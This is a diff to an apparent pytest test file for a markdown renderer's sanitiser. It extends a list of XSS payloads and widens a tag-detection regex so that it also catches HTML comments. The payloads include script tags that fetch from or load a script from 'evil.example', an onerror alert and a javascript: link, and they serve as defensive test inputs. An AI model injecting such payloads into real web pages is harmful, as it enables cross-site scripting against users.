@@ -19,6 +19,10 @@ OURS = {"p", "ul", "li", "strong"}
 PAYLOADS = [
     "<img src=x onerror=alert(1)>",
     "<script>fetch('//evil.example')</script>",
+    "<div onclick=x",
+    "<!-- hidden",
+    "<script src=//evil.example",
+    "<pre ",
     "[click](javascript:alert(1))",
     "![x](https://evil.example/p.png)",
     "| a | b |\n|---|---|\n| c | d |",
@@ -33,7 +37,7 @@ PAYLOADS = [
 
 
 def tags(markdown: str) -> set[str]:
-    return set(re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9]*)", RENDERER.render(markdown)))
+    return set(re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9]*|!--)", RENDERER.render(markdown)))
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
